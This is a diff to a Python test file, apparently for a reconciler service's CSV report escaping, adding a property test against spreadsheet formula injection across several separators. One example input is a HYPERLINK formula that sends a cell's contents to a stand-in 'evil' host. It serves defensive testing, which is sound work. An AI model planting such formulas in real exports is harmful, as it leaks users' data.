@@ -7,13 +7,13 @@ import io
 from decimal import Decimal
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from services.reconciler.domain.approval import SecondPersonRule
 from services.reconciler.domain.cases import COMMANDS, Action
 from services.reconciler.domain.reporting import WHOLE, Place, Totals, as_major, bars
-from services.reconciler.reporting.csv_report import escaped
+from services.reconciler.reporting.csv_report import _written, escaped
 
 AMOUNTS = st.integers(-(10**15), 10**15)
 
@@ -78,6 +78,18 @@ def test_no_text_begins_a_formula_whatever_stands_before_its_sign(sign: str, bef
     assert not set(cell) & set("\t\r\n\x00\x0b\u2028")
 
 
+@given(st.text(alphabet="=+-@ \t;,|\"'ax1\u200b\u00a0", max_size=12))
+@example('x;"=HYPERLINK("http://evil/?"&A1;"k")')
+@example('x; "" =1+1')
+def test_no_text_is_a_formula_where_spreadsheets_split_at_other_signs(text: str) -> None:
+    """RC15: with a decimal comma they split at semicolons, and quotes within a cell count anew."""
+    line = _written([{"record": "case", "reference": text, "detail": text}]).decode()
+    for separator in ";,|\t":
+        for lines in (csv.reader(io.StringIO(line), delimiter=separator), [line.split(separator)]):
+            for cell in next(iter(lines)):
+                assert cell.lstrip(' \t"\u200b\u00a0')[:1] not in {*DANGEROUS} - {separator, "|"}
+
+
 @given(st.text())
 def test_a_cell_is_one_line_and_comes_back_as_it_was_written(text: str) -> None:
     buffer = io.StringIO(newline="")
@@ -86,7 +98,7 @@ def test_a_cell_is_one_line_and_comes_back_as_it_was_written(text: str) -> None:
     assert row == [escaped(text), "x"]
 
 
-@pytest.mark.parametrize("harmless", ["", "pi_1", 'Ünïcode, "quoted"', "a=b", "1-2", "الرياض", "'already"])
+@pytest.mark.parametrize("harmless", ["", "pi_1", 'Ünïcode, "quoted"', "a=b", "1-2", "a; b, c", "الرياض", "'already"])
 def test_harmless_text_stays_as_it_is(harmless: str) -> None:
     assert escaped(harmless) == harmless
 
